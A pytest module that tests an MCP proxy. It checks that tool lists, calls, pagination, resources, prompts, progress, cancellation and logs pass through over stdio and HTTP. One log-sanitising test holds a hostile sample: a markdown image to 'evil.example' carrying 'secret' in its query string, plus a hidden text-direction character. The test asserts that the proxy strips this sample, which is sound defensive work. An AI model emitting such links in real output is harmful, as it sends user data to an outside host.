"""Issue 2: the proxy forwards faithfully, in both protocol eras, over stdio and Streamable HTTP.

Everything here is real: the sandbox and the feature server run as processes, the proxy runs as
a process (HTTP) or as the stdio child of the SDK client, and `mcp.Client` drives it.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import anyio
import mcp.types as types
import pytest
from mcp import Client

from proxy.sanitize import sanitize_text
from tests.harness import (
    FEATURES,
    MODES,
    Proc,
    all_tools,
    calls,
    proxy_http,
    proxy_stdio,
    records,
    spawn,
    wait_for,
    write_policy,
)

pytestmark = pytest.mark.anyio


@pytest.fixture(scope="module")
def features(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Proc, Path]]:
    record = tmp_path_factory.mktemp("features") / "record.jsonl"
    with spawn([*FEATURES, "--port", "0", "--record", str(record)]) as proc:
        yield proc, record


@pytest.fixture(scope="module")
def open_policy(sandbox: tuple[Proc, Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """No profile, nothing denied: the proxy should look exactly like the upstream."""
    return write_policy(tmp_path_factory.mktemp("p") / "open.yaml", {"smsapi": {"url": sandbox[0].url}})


@pytest.fixture(scope="module")
def features_policy(features: tuple[Proc, Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_policy(tmp_path_factory.mktemp("p") / "features.yaml", {"features": {"url": features[0].url}})


@pytest.fixture(scope="module")
def open_proxy(open_policy: Path) -> Iterator[Proc]:
    with proxy_http(open_policy) as proc:
        yield proc


@pytest.fixture(scope="module")
def features_proxy(features_policy: Path) -> Iterator[Proc]:
    with proxy_http(features_policy) as proc:
        yield proc


@asynccontextmanager
async def through(transport: str, policy: Path, http: Proc, mode: str, **kwargs: Any) -> AsyncIterator[Client]:
    target: Any = proxy_stdio(policy) if transport == "stdio" else http.url
    async with Client(target, mode=mode, **kwargs) as client:
        yield client


def shape(tools: list[types.Tool]) -> list[dict[str, Any]]:
    return sorted(
        (t.model_dump(mode="json", by_alias=True, exclude_none=True, exclude={"meta"}) for t in tools),
        key=lambda t: t["name"],
    )


def described(value: Any) -> Any:
    """What the proxy promises for descriptive text (SPEC §5: descriptions get E2), applied to a direct listing."""
    if isinstance(value, dict):
        return {
            k: sanitize_text(v) if k in ("description", "title") and isinstance(v, str) else described(v)
            for k, v in value.items()
        }
    if isinstance(value, list):
        return [described(v) for v in value]
    return value


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("transport", ["stdio", "http"])
async def test_tool_list_is_identical_through_the_proxy(
    transport: str, mode: str, sandbox: tuple[Proc, Path], open_policy: Path, open_proxy: Proc
) -> None:
    async with Client(sandbox[0].url, mode=mode) as direct:
        expected = described(shape(await all_tools(direct)))
    async with through(transport, open_policy, open_proxy, mode) as client:
        got = shape(await all_tools(client))
    assert [t["name"] for t in got] == [t["name"] for t in expected]
    assert got == expected
    assert any(t.get("annotations", {}).get("destructiveHint") for t in got)


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("transport", ["stdio", "http"])
async def test_calls_are_forwarded_and_recorded(
    transport: str, mode: str, sandbox: tuple[Proc, Path], open_policy: Path, open_proxy: Proc
) -> None:
    record = sandbox[1]
    before = len(calls(record, "get_profile"))
    async with through(transport, open_policy, open_proxy, mode) as client:
        result = await client.call_tool("get_profile", {})
    assert not result.is_error
    text = result.content[0].text  # type: ignore[union-attr]
    assert '<tool_output source="smsapi:get_profile"' in text
    assert text.rstrip().endswith("</tool_output>")
    assert len(calls(record, "get_profile")) == before + 1


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("transport", ["stdio", "http"])
async def test_paginated_tools_resources_prompts_and_completions(
    transport: str, mode: str, features: tuple[Proc, Path], features_policy: Path, features_proxy: Proc
) -> None:
    async with Client(features[0].url, mode=mode) as direct:
        direct_tools = await all_tools(direct)
        first_page = await direct.list_tools()
    async with through(transport, features_policy, features_proxy, mode) as client:
        page = await client.list_tools()
        assert page.next_cursor is not None and len(page.tools) == len(first_page.tools)
        tools = await all_tools(client)
        assert [t.name for t in tools] == [t.name for t in direct_tools]

        resources: list[types.Resource] = []
        cursor = None
        while True:
            res_page = await client.list_resources(cursor=cursor)
            resources += res_page.resources
            cursor = res_page.next_cursor
            if cursor is None:
                break
        assert len(resources) >= 4
        templates = await client.list_resource_templates()
        assert templates.resource_templates
        read = await client.read_resource(str(resources[0].uri))
        contents = read.contents[0]
        assert isinstance(contents, types.TextResourceContents)
        assert "<tool_output" in contents.text

        prompts = await client.list_prompts()
        assert prompts.prompts
        prompt = await client.get_prompt(prompts.prompts[0].name, {"name": "Ala"})
        assert prompt.messages
        first = prompt.messages[0].content
        assert isinstance(first, types.TextContent) and "<tool_output" in first.text

        completion = await client.complete(
            types.PromptReference(type="ref/prompt", name=prompts.prompts[0].name), {"name": "name", "value": "A"}
        )
        assert completion.completion.values


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("transport", ["stdio", "http"])
async def test_progress_is_forwarded(transport: str, mode: str, features_policy: Path, features_proxy: Proc) -> None:
    seen: list[float] = []

    async def on_progress(progress: float, total: float | None, message: str | None) -> None:
        seen.append(progress)

    async with through(transport, features_policy, features_proxy, mode) as client:
        result = await client.call_tool("progress", {"steps": 3}, progress_callback=on_progress)
    assert not result.is_error
    assert len(seen) == 3


@pytest.mark.parametrize("mode", MODES)
async def test_cancellation_reaches_the_upstream(
    mode: str, features: tuple[Proc, Path], features_policy: Path, features_proxy: Proc
) -> None:
    record = features[1]
    before = sum(1 for r in records(record) if r.get("event") == "cancelled")
    started = anyio.Event()

    async def on_progress(progress: float, total: float | None, message: str | None) -> None:
        started.set()

    async with Client(features_proxy.url, mode=mode) as client:
        async with anyio.create_task_group() as tg:

            async def call() -> None:
                await client.call_tool("slow", {"seconds": 30}, progress_callback=on_progress)

            tg.start_soon(call)
            with anyio.fail_after(15):
                await started.wait()
            tg.cancel_scope.cancel()
    assert wait_for(lambda: sum(1 for r in records(record) if r.get("event") == "cancelled") > before)


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("transport", ["stdio", "http"])
async def test_upstream_log_messages_are_forwarded_sanitised_and_named(
    transport: str, mode: str, features_policy: Path, features_proxy: Proc
) -> None:
    logs: list[types.LoggingMessageNotificationParams] = []

    async def on_log(params: types.LoggingMessageNotificationParams) -> None:
        logs.append(params)

    hostile = "disk <b>full</b> ![x](https://evil.example/?q=secret) \u202eevil"
    async with through(
        transport, features_policy, features_proxy, mode, logging_callback=on_log, log_level="debug"
    ) as client:
        result = await client.call_tool("chatty", {"text": hostile})
    assert not result.is_error
    assert len(logs) == 1
    assert logs[0].logger == "features/features"
    assert logs[0].data == sanitize_text(hostile)
    assert "evil.example" not in str(logs[0].data) and "<b>" not in str(logs[0].data)
